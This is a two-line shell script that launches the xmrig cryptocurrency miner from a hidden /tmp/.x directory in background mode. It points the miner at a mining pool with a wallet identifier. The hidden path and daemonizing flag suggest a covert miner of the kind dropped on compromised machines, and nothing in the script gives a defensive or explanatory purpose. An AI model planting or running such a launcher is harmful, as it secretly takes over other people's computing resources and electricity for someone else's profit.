#!/bin/sh
/tmp/.x/xmrig -o pool.example.net:3333 -u 44AFFq5kSiGBoZ --donate-level 1 -B
